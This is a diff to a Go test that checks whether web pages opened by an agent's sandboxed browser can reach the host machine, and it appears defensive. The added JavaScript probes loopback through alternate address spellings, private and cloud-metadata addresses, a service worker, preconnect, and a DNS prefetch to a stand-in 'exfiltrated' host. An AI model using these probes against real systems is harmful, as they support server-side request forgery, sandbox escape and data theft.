@@ -38,6 +38,13 @@ const heard = (el, src) => new Promise((r) => { el.onload = el.onerror = r; el.s
   }
   const worker = new Worker(URL.createObjectURL(new Blob(["fetch('http://" + at + "/worker', {mode: 'no-cors'}).finally(() => postMessage(1))"])));
   await soon(new Promise((r) => { worker.onmessage = r; }));
+  for (const [name, host] of [["localhost", "localhost"], ["short", "127.1"], ["hexadecimal", "0x7f000001"], ["mapped", "[::ffff:127.0.0.1]"], ["alias", "any.localhost"]])
+    await soon(fetch("http://" + host + ":" + at.split(":")[1] + "/" + name, { mode: "no-cors" }));
+  for (const host of ["10.0.0.1", "192.168.0.1", "169.254.169.254", "172.16.0.1", "[fe80::1]"]) soon(fetch("http://" + host + "/latest", { mode: "no-cors" }));
+  const pre = document.createElement("link"); pre.rel = "preconnect"; pre.href = "http://PRE"; document.head.append(pre);
+  const dns = document.createElement("link"); dns.rel = "dns-prefetch"; dns.href = "//secret.exfiltrated.example"; document.head.append(dns);
+  navigator.serviceWorker.register("/sw.js").catch(() => {});
+  await soon(new Promise((r) => { navigator.serviceWorker.onmessage = r; }));
   const rtc = new RTCPeerConnection({ iceServers: [{ urls: "stun:" + "STUN" }] });
   rtc.createDataChannel("x"); await rtc.setLocalDescription(await rtc.createOffer());
   await soon(new Promise((r) => { rtc.onicegatheringstatechange = () => rtc.iceGatheringState === "complete" && r(); }));
@@ -46,11 +53,16 @@ const heard = (el, src) => new Promise((r) => { el.onload = el.onerror = r; el.s
 })();
 </script>`
 
+// serviceWorker goes on after its page: it fetches from AT when it is installed.
+const serviceWorker = `self.addEventListener("install", (e) => { self.skipWaiting(); e.waitUntil(fetch("http://AT/serviceworker", {mode: "no-cors"}).catch(() => {})); });
+self.addEventListener("activate", (e) => e.waitUntil(self.clients.claim().then(() => self.clients.matchAll()).then((l) => l.forEach((c) => c.postMessage(1)))));`
+
 // machine counts what reaches a server and a STUN port of this machine.
 type machine struct {
 	mu   sync.Mutex
 	seen []string
 	http *httptest.Server
+	pre  net.Listener // hears connections that ask for nothing
 	stun net.PacketConn
 }
 
@@ -74,9 +86,14 @@ func listening(t *testing.T) *machine {
 	m := &machine{}
 	var page string
 	m.http = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
-		if r.URL.Path == "/page" {
+		switch r.URL.Path {
+		case "/page":
 			w.Header().Set("Content-Type", "text/html")
 			_, _ = fmt.Fprint(w, page)
+			return
+		case "/sw.js":
+			w.Header().Set("Content-Type", "text/javascript")
+			_, _ = fmt.Fprint(w, m.fill(serviceWorker))
 			return
 		}
 		m.hear(strings.Trim(r.URL.Path, "/"))
@@ -97,12 +114,27 @@ func listening(t *testing.T) *machine {
 		}
 	}()
 	t.Cleanup(func() { _ = m.stun.Close(); <-done })
-	page = m.page()
+	m.pre, err = net.Listen("tcp", "127.0.0.1:0")
+	must(t, err)
+	ended := make(chan struct{})
+	go func() {
+		defer close(ended)
+		for {
+			c, err := m.pre.Accept()
+			if err != nil {
+				return
+			}
+			m.hear("preconnect")
+			_ = c.Close()
+		}
+	}()
+	t.Cleanup(func() { _ = m.pre.Close(); <-ended })
+	page = m.fill(attempts)
 	return m
 }
 
-func (m *machine) page() string {
-	return strings.NewReplacer("AT", strings.TrimPrefix(m.http.URL, "http://"), "STUN", m.stun.LocalAddr().String()).Replace(attempts)
+func (m *machine) fill(text string) string {
+	return strings.NewReplacer("AT", strings.TrimPrefix(m.http.URL, "http://"), "STUN", m.stun.LocalAddr().String(), "PRE", m.pre.Addr().String()).Replace(text)
 }
 
 // TestPagesReachNothingOutside: what a page of a goal tries against this machine
@@ -120,12 +152,13 @@ func TestPagesReachNothingOutside(t *testing.T) {
 	})
 	works := m.heard()
 	// Datagrams are shut for every page of the Chromium, so theirs is the one that does not work here.
-	if len(works) < 11 || !slices.Contains(works, "socket") || slices.Contains(works, "webrtc") {
+	if len(works) < 18 || !slices.Contains(works, "socket") || slices.Contains(works, "webrtc") {
 		t.Fatalf("only these attempts are real: %v", works)
 	}
 
 	steps := p.did(
-		args("write_file", map[string]any{"path": "index.html", "content": m.page()}),
+		args("write_file", map[string]any{"path": "index.html", "content": m.fill(attempts)}),
+		args("write_file", map[string]any{"path": "sw.js", "content": m.fill(serviceWorker)}),
 		args("terminal_open", map[string]any{}),
 		args("terminal_run", map[string]any{"pane": "t1", "command": "'" + self + "' static --listen 127.0.0.1:8080 .", "wait_seconds": 1}),
 		args("browser_open", map[string]any{"url": "http://127.0.0.1:8080/"}),
@@ -135,7 +168,7 @@ func TestPagesReachNothingOutside(t *testing.T) {
 		args("browser_open", map[string]any{"pane": "b2", "url": "http" + strings.TrimPrefix(p.app.Connect().URL, "ws")}),
 	)
 	for i, s := range steps {
-		if good := i < 5; (s.Outcome == event.OK) != good {
+		if good := i < 6; (s.Outcome == event.OK) != good {
 			t.Errorf("%s: %s %s", s.Tool, s.Outcome, s.Result)
 		}
 	}
@@ -143,5 +176,15 @@ func TestPagesReachNothingOutside(t *testing.T) {
 	t.Logf("%d attempts of a page, %d escaped", len(works)+4, len(escaped))
 	if len(escaped) > 0 {
 		t.Errorf("a page of a goal reached this machine by %v", escaped)
+	}
+	// What leads to no server of this machine is refused by the proxy, and stands in its log.
+	list, err := p.goal.List(api.ListInput{})
+	must(t, err)
+	seen, err := p.goal.Network(list.Goals[0].ID)
+	must(t, err)
+	for _, host := range []string{"10.0.0.1", "192.168.0.1", "169.254.169.254", "172.16.0.1", "fe80::1"} {
+		if !slices.ContainsFunc(seen.Hosts, func(h api.NetworkHost) bool { return strings.Contains(h.Host, host) && !h.Allowed }) {
+			t.Errorf("%s is not among what was refused: %+v", host, seen.Hosts)
+		}
 	}
 }
